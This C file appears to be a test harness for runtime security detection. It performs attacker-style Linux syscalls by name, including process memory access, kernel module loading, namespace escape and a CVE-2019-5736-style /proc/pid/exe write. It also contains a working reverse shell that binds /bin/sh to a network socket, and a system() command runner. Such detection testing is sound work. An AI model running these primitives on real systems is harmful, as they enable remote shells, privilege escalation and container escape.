/*
 * What attackers do with calls that no tool of a small image makes, one by its name: `attack NAME [ARGUMENT…]`.
 * Whether a call is allowed does not matter: it is made. Nothing is written to what the machine shares.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <net/ethernet.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static char secret[16] = "secret";

static pid_t victim(void)
{
	pid_t child = fork();
	if (!child) {
		pause();
		_exit(0);
	}
	usleep(20000);
	return child;
}

static void end(pid_t child)
{
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
}

static int reach(const char *address, int port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port) };
	inet_pton(AF_INET, address, &to.sin_addr);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	for (int i = 0; i < 100 && connect(fd, (void *)&to, sizeof(to)); i++)
		usleep(10000);
	return fd;
}

static void copy(int from, int to)
{
	char piece[65536];
	ssize_t count;
	while ((count = read(from, piece, sizeof(piece))) > 0)
		write(to, piece, count);
}

/* Waits for one who connects, sends a line and shows what comes back. */
static void listens(int port, const char *line)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_STREAM, 0), yes = 1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	bind(fd, (void *)&at, sizeof(at));
	listen(fd, 1);
	alarm(20);
	int peer = accept(fd, NULL, NULL);
	if (line) {
		write(peer, line, strlen(line));
		write(peer, "\n", 1);
		shutdown(peer, SHUT_WR);
	}
	copy(peer, 1);
}

static void io_uring_open(const char *path)
{
	struct io_uring_params params = {};
	int ring = syscall(SYS_io_uring_setup, 4, &params);
	if (ring < 0)
		return;
	char *sq = mmap(NULL, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *entry = mmap(NULL, params.sq_entries * sizeof(*entry), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	entry->opcode = IORING_OP_OPENAT;
	entry->fd = AT_FDCWD;
	entry->addr = (uintptr_t)path;
	*(unsigned *)(sq + params.sq_off.array) = 0;
	__atomic_store_n((unsigned *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
	syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
}

int main(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "", *one = argc > 2 ? argv[2] : "", *two = argc > 3 ? argv[3] : "";
	char *arguments[] = { "true", NULL };
#define IS(what) (!strcmp(name, what))
	if (IS("openat2")) {
		uint64_t how[3] = { O_RDONLY, 0, 0 };
		syscall(SYS_openat2, AT_FDCWD, one, how, sizeof(how));
	} else if (IS("io_uring")) {
		io_uring_open(one);
	} else if (IS("open-write")) {
		open(one, O_WRONLY);
	} else if (IS("open-write-as-runc")) {
		prctl(PR_SET_NAME, "runc:[2:INIT]");
		open(one, O_WRONLY);
	} else if (IS("memfd")) {
		int memory = syscall(SYS_memfd_create, *one ? one : "x", 0), from = open("/bin/true", O_RDONLY);
		copy(from, memory);
		fexecve(memory, arguments, environ);
	} else if (IS("deleted")) {
		int from = open("/bin/true", O_RDONLY), to = open("/tmp/gone", O_CREAT | O_WRONLY, 0755);
		copy(from, to);
		close(to);
		to = open("/tmp/gone", O_RDONLY);
		unlink("/tmp/gone");
		fexecve(to, arguments, environ);
	} else if (IS("remove-own")) {
		unlink(one);
	} else if (IS("ptrace")) {
		pid_t child = victim();
		ptrace(PTRACE_ATTACH, child, 0, 0);
		end(child);
	} else if (IS("traceme")) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
	} else if (IS("vm-write") || IS("vm-read")) {
		pid_t child = victim();
		char own[16] = "changed";
		struct iovec local = { own, sizeof(own) }, remote = { secret, sizeof(secret) };
		if (IS("vm-write"))
			process_vm_writev(child, &local, 1, &remote, 1, 0);
		else
			process_vm_readv(child, &local, 1, &remote, 1, 0);
		end(child);
	} else if (IS("mem-write") || IS("mem-read")) {
		pid_t child = victim();
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/mem", child);
		open(path, IS("mem-write") ? O_RDWR : O_RDONLY);
		end(child);
	} else if (IS("pidfd-getfd")) {
		pid_t child = victim();
		syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, child, 0), 1, 0);
		end(child);
	} else if (IS("init-module")) {
		syscall(SYS_init_module, secret, sizeof(secret), "");
	} else if (IS("finit-module")) {
		syscall(SYS_finit_module, open("/bin/true", O_RDONLY), "", 0);
	} else if (IS("delete-module")) {
		syscall(SYS_delete_module, "no-such-module", O_NONBLOCK);
	} else if (IS("bpf")) {
		union bpf_attr map = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1 };
		syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map));
	} else if (IS("unix") || IS("listen-unix")) {
		struct sockaddr_un at = { .sun_family = AF_UNIX };
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		strncpy(at.sun_path, one, sizeof(at.sun_path) - 1);
		if (IS("unix"))
			return connect(fd, (void *)&at, sizeof(at)) != 0;
		bind(fd, (void *)&at, sizeof(at));
		listen(fd, 1);
		alarm(5);
		pause();
	} else if (IS("connect")) {
		reach(one, atoi(two));
	} else if (IS("reverse")) {
		int fd = reach(one, atoi(two));
		for (int i = 0; i < 3; i++)
			dup2(fd, i);
		execl("/bin/sh", "sh", NULL);
	} else if (IS("listen")) {
		listens(atoi(one), argc > 3 ? two : NULL);
	} else if (IS("server")) {
		/* What a hole in a server is used for: it runs a command. */
		system(one);
	} else if (IS("setns")) {
		setns(open(one, O_RDONLY), 0);
	} else if (IS("unshare")) {
		unshare(CLONE_NEWUSER | CLONE_NEWNS);
	} else if (IS("fsopen")) {
		syscall(SYS_fsopen, "tmpfs", 0);
	} else if (IS("open-tree")) {
		syscall(SYS_open_tree, AT_FDCWD, "/", 1);
	} else if (IS("chroot")) {
		chroot("/tmp");
	} else if (IS("pivot-root")) {
		syscall(SYS_pivot_root, "/tmp", "/tmp");
	} else if (IS("keyctl")) {
		syscall(SYS_keyctl, 0, -3, 0);
	} else if (IS("add-key")) {
		syscall(SYS_add_key, "user", "x", "x", 1, -2);
	} else if (IS("userfaultfd")) {
		syscall(SYS_userfaultfd, O_CLOEXEC);
	} else if (IS("packet")) {
		socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	} else if (IS("raw")) {
		socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	} else if (IS("handle")) {
		struct {
			struct file_handle head;
			unsigned char bytes[8];
		} handle = { .head = { 8, 1 }, .bytes = { 2 } };
		syscall(SYS_open_by_handle_at, open("/etc/hostname", O_RDONLY), &handle, O_RDONLY);
	} else if (IS("mknod")) {
		mknod(one, S_IFBLK | 0600, makedev(7, 0));
	} else if (IS("perf")) {
		struct perf_event_attr what = { .type = PERF_TYPE_SOFTWARE, .size = sizeof(what) };
		syscall(SYS_perf_event_open, &what, 0, -1, -1, 0);
	} else if (IS("kexec")) {
		syscall(SYS_kexec_load, 0, 0, NULL, 0);
	} else if (IS("iopl")) {
#ifdef SYS_iopl
		syscall(SYS_iopl, 3);
#endif
	} else if (IS("kernel-name")) {
		prctl(PR_SET_NAME, "kworker/0:1");
	} else if (IS("chmod")) {
		chmod(one, 04755);
	} else if (IS("fchmodat2")) {
		syscall(452, AT_FDCWD, one, 04755, 0);
	} else if (IS("exe")) {
		char path[64];
		pid_t child = victim();
		snprintf(path, sizeof(path), "/proc/%d/exe", child);
		open(path, O_WRONLY);
		end(child);
	} else if (IS("exe-fd")) {
		/* As exploits of CVE-2019-5736 do: opened for reading first. */
		char path[64];
		pid_t child = fork();
		if (!child)
			execl(one, "sleep", "1", NULL);
		usleep(20000);
		snprintf(path, sizeof(path), "/proc/%d/exe", child);
		int fd = open(path, O_RDONLY);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		open(path, O_WRONLY);
		end(child);
	} else {
		fprintf(stderr, "no attack `%s`\n", name);
		return 2;
	}
	return 0;
}
